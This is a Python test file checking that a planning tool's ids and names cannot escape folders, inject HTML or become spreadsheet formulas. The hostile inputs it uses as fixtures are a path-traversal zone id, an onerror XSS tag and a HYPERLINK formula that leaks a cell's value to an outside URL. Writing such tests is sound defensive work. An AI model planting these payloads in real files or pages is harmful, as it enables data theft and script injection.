"""Ids and names are data: never paths, markup or formulas (allocator.safety).

Known answers and properties of the three helpers, then the whole chain as a user
runs it: a case whose zone id is ``../`` segments and whose names hold HTML and
formulas is solved and exported through the CLI; nothing lands outside the
export folder, no name reaches an HTML page raw, no workbook cell is a formula.
A source scan keeps every file name built from a value going through
:func:`safe_filename` and every HTML template going through escaping.
"""

from __future__ import annotations

import ast
import os
import re
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from allocator.safety import (
    escape_html,
    neutralise_cell,
    neutralise_frame,
    safe_child,
    safe_filename,
)

ROOT = Path(__file__).resolve().parents[1]

EVIL_ZONE = "../../evil/../x"
EVIL_NAME = '<img src=x onerror="alert(1)">园区'
FORMULA = '=HYPERLINK("http://example.com/?leak="&A1,"点击")'


# ---------------------------------------------------------------- helpers


def test_safe_filename_known_answers():
    assert safe_filename("ZJ01") == "ZJ01"
    assert safe_filename("杭州综保区") == "杭州综保区"
    evil = safe_filename("../x")
    assert evil.startswith("___x~")
    assert len(evil) == len("___x~") + 16
    assert "/" not in safe_filename("a/b")
    assert "." not in safe_filename("a.b")
    assert safe_filename("") != safe_filename("_")
    assert safe_filename("CON") != "CON"
    assert safe_filename("-rf") != "-rf"
    # the replaced and the plain spelling of the same text differ
    assert safe_filename("a b") != safe_filename("a_b")


@settings(max_examples=400, deadline=None)
@given(st.text(max_size=200))
def test_no_id_can_leave_its_folder(value):
    name = safe_filename(value)
    assert name
    assert name not in (".", "..")
    assert re.fullmatch(r"[A-Za-z0-9_\-~\u4e00-\u9fa5]+", name)
    assert not name.startswith("-")
    assert len(name) <= 64 + 17
    folder = Path("/srv/runs/export")
    child = safe_child(folder, value, ".png")
    assert child.parent == folder
    assert os.path.normpath(child) == str(child)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=40), st.text(max_size=40))
def test_different_ids_get_different_names(a, b):
    if a != b:
        assert safe_filename(a) != safe_filename(b)


@given(st.text(max_size=80))
def test_escaped_html_holds_no_markup(value):
    out = escape_html(value)
    assert not set(out) & set("<>\"'")
    import html

    assert html.unescape(out) == value


def test_neutralise_cell():
    for bad in ("=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert neutralise_cell(bad) == "'" + bad
    for ok in ("ZJ01", "杭州", "", 3, -2.5, None, True):
        assert neutralise_cell(ok) == ok
    frame = pd.DataFrame({"name": ["=cmd", "ok"], "n": [-1.0, 2.0]})
    out = neutralise_frame(frame)
    assert out["name"].tolist() == ["'=cmd", "ok"]
    assert out["n"].tolist() == [-1.0, 2.0]


# ---------------------------------------------------------------- CLI end to end


def _hostile_frames() -> dict:
    from allocator.case.testing import tiny_frames

    frames = tiny_frames()
    for layer in ("zones", "plots", "firms", "catalogue"):
        frame = frames[layer]
        frame["zone_id"] = frame["zone_id"].replace({"Z01": EVIL_ZONE})
    firms = frames["firms"]
    firms["candidate_zones"] = firms["candidate_zones"].str.replace("Z01", EVIL_ZONE)
    frames["zones"].loc[0, "name"] = EVIL_NAME
    firms.loc[firms["firm_id"] == "F001", "name"] = FORMULA
    firms.loc[firms["firm_id"] == "F002", "name"] = EVIL_NAME
    return frames


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory) -> Path:
    """Solve the hostile tiny case through the CLI; return the run folder."""
    pytest.importorskip("models.solver")
    from allocator.case import save_case
    from allocator.case.io import build_case
    from allocator.cli import main
    from allocator.errors import ProblemList

    root = tmp_path_factory.mktemp("hostile")
    problems = ProblemList()
    case = build_case(_hostile_frames(), problems)
    assert case is not None, problems.errors
    save_case(case, root / "case.gpkg")
    (root / "s.toml").write_text(
        'name = "../../<b>evil</b>"\ncase = "case.gpkg"\n', encoding="utf-8"
    )
    assert main(["solve", str(root / "s.toml"), "--out", str(root / "runs")]) == 0
    (run,) = [p for p in (root / "runs").iterdir() if not p.name.startswith(".")]
    return run


def _files(folder: Path) -> set[Path]:
    return {p for p in folder.rglob("*")}


def test_hostile_ids_stay_in_their_folders(hostile_run):
    from allocator.cli import main

    root = hostile_run.parents[1]
    runs = hostile_run.parent
    assert [p.parent for p in runs.iterdir()] == [runs]  # the run folder name is safe
    out = root / "out"
    before = _files(root)
    rc = main(["export", str(hostile_run), "-f", "png,html,xlsx,zip", "-o", str(root / "out")])
    assert rc == 0
    new = _files(root) - before
    assert new
    assert all(p == out or out in p.parents for p in new)
    maps = sorted(p.name for p in (root / "out" / "maps").iterdir())
    assert f"zone_{safe_filename(EVIL_ZONE)}.png" in maps
    (bundle,) = (root / "out").glob("*.zip")
    with zipfile.ZipFile(bundle) as zf:
        for name in zf.namelist():
            assert ".." not in Path(name).parts
            assert not name.startswith("/")


def test_hostile_names_reach_no_html_raw(hostile_run):
    from allocator.cli import main

    out = hostile_run.parents[1] / "out_html"
    assert main(["export", str(hostile_run), "-f", "html,report", "-o", str(out)]) == 0
    for page in ("webmap.html", "report.html"):
        text = (out / page).read_text(encoding="utf-8")
        assert "onerror" not in text or "<img src=x" not in text, page
        assert "<b>evil</b>" not in text, page
    assert "&lt;img src=x onerror=" in (out / "webmap.html").read_text(encoding="utf-8")


def _formula_cells(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path)
    return [
        f"{ws.title}!{cell.coordinate}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def _texts(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path)
    return [
        cell.value
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


def test_formula_names_are_text_in_every_workbook(hostile_run, tmp_path):
    from allocator.cli import main

    out = tmp_path / "x"
    assert main(["export", str(hostile_run), "-f", "xlsx", "-o", str(out)]) == 0
    book = out / "tables.xlsx"
    assert _formula_cells(book) == []
    assert "'" + FORMULA in _texts(book)
    # the compare workbook
    cmp = tmp_path / "cmp.xlsx"
    assert main(["compare", str(hostile_run), str(hostile_run), "--out", str(cmp)]) == 0
    assert _formula_cells(cmp) == []
    # the scoring workbook, from a firms table with formula names
    from allocator.case.testing import tiny_frames

    firms = tiny_frames()["firms"]
    firms.loc[0, "name"] = FORMULA
    firms.loc[1, "firm_id"] = "@SUM(1+1)"
    firms.to_csv(tmp_path / "firms.csv", index=False)
    score = tmp_path / "score.xlsx"
    assert main(["score", str(tmp_path / "firms.csv"), "--out", str(score)]) == 0
    assert _formula_cells(score) == []
    assert "'" + FORMULA in _texts(score)


# ---------------------------------------------------------------- source scan

PATH_CALLS = {"with_name", "with_suffix", "with_stem", "joinpath"}
SAFE_WRAPPERS = {"safe_filename", "short_hash", "len"}
ALLOWED = {
    # (file, formatted expression): values that are not data (literals, layer names, hashes)
    ("allocator/export/vector.py", "name"),  # fixed layer names (LAYERS)
    ("allocator/export/vector.py", "stem"),  # fixed layer file names
    ("allocator/export/maps.py", "ext"),  # png / pdf
    ("allocator/export/bundle.py", "path.name"),  # an existing file's own name
    ("allocator/ui/browser.py", "name"),  # screenshot names written in the code
    ("allocator/ui/pages/overview.py", "folder.name"),  # a folder named by a hash
    ("allocator/scoring/workbook.py", "suffix"),  # .xlsx/.xlsm/.csv, checked before
    ("allocator/analysis/sweep.py", "point.key"),  # a sha256 hex digest
    ("allocator/analysis/sweep.py", "uuid.uuid4().hex[:8]"),
    ("allocator/analysis/sweep.py", "kind"),  # "sweep" or "mc"
    ("allocator/analysis/sweep.py", "digest"),  # a sha256 hex digest
    ("allocator/analysis/sweep.py", "path.name"),  # an existing file's own name
    ("allocator/commands/solve.py", "base.name"),  # already a safe name
    ("allocator/case/importers.py", "path.stem"),  # inside the import's own temp folder
    ("allocator/runs.py", "name"),  # fixed table names
    ("allocator/runs.py", "n"),
    ("allocator/runs.py", "base"),  # run_folder_name(): safe_filename inside
    ("allocator/commands/solve.py", "n"),  # a counter
    ("allocator/safety.py", "suffix"),  # safe_child's extension, written in the code
    ("allocator/scoring/method.py", "text"),  # checked against the shipped method names
    ("allocator/scoring/method.py", "inc"),
}


def _formatted(node: ast.AST) -> list[ast.expr]:
    return [v.value for v in ast.walk(node) if isinstance(v, ast.FormattedValue)]


def _unsafe(expr: ast.expr) -> bool:
    if isinstance(expr, ast.Call):
        fn = expr.func
        name = fn.id if isinstance(fn, ast.Name) else getattr(fn, "attr", "")
        if name in SAFE_WRAPPERS:
            return False
    return True


def test_every_file_name_from_a_value_is_made_safe():
    bad = []
    for path in sorted((ROOT / "allocator").rglob("*.py")):
        rel = path.relative_to(ROOT).as_posix()
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            target = None
            if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Div):
                target = node.right
            elif (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr in PATH_CALLS
                and node.args
            ):
                target = node.args[0]
            if not isinstance(target, ast.JoinedStr):
                continue
            for expr in _formatted(target):
                if _unsafe(expr) and (rel, ast.unparse(expr)) not in ALLOWED:
                    bad.append(f"{rel}:{node.lineno}: {{{ast.unparse(expr)}}}")
    assert bad == [], "file names built from values without safe_filename:\n" + "\n".join(bad)


HTML_TAG = re.compile(r"<[a-zA-Z/!][^>]*>")
HTML_FILES = ("allocator/export/webmap.py", "allocator/export/report.py", "allocator/ui/maps.py")
HTML_SAFE = {"escape_html", "_image_uri", "_table", "json.dumps", "_legend_html"}
HTML_ALLOWED = {
    # legend swatches: rgba()/rgb() of ints parsed from the styles, a width, solid/dashed
    "swatch_css(ZONE_STYLE)",
    "swatch_css(REDLINE_STYLE)",
    "swatch_css(plot_style(o))",
    "REDLINE_COLOR",
    "r",  # palette colour components (ints written in the code)
    "g",
    "b",
    "OUTCOME_COLORS[o]",
    "ZONE_LABEL_CSS",
    "CSS",
    "html_lang",
    "th",
    "cls",
    "''.join(rows)",
    "rows",
    "''.join(cells)",
    "body",
}


def test_every_html_template_escapes_its_values():
    bad = []
    for rel in HTML_FILES:
        tree = ast.parse((ROOT / rel).read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if not isinstance(node, ast.JoinedStr):
                continue
            literal = "".join(
                v.value
                for v in node.values
                if isinstance(v, ast.Constant) and isinstance(v.value, str)
            )
            if not HTML_TAG.search(literal):
                continue
            for expr in _formatted(node):
                src = ast.unparse(expr)
                if isinstance(expr, ast.Call):
                    fn = ast.unparse(expr.func)
                    if fn in HTML_SAFE:
                        continue
                if src in HTML_ALLOWED:
                    continue
                bad.append(f"{rel}:{node.lineno}: {{{src}}}")
    assert bad == [], "HTML filled without escape_html:\n" + "\n".join(bad)


def test_app_tooltips_read_escaped_properties():
    pytest.importorskip("streamlit")
    from allocator.ui.maps import TOOLTIP_SUFFIX, tooltip_template

    assert tooltip_template("<b>{zone_id}</b> {name}") == (
        f"<b>{{zone_id{TOOLTIP_SUFFIX}}}</b> {{name{TOOLTIP_SUFFIX}}}"
    )
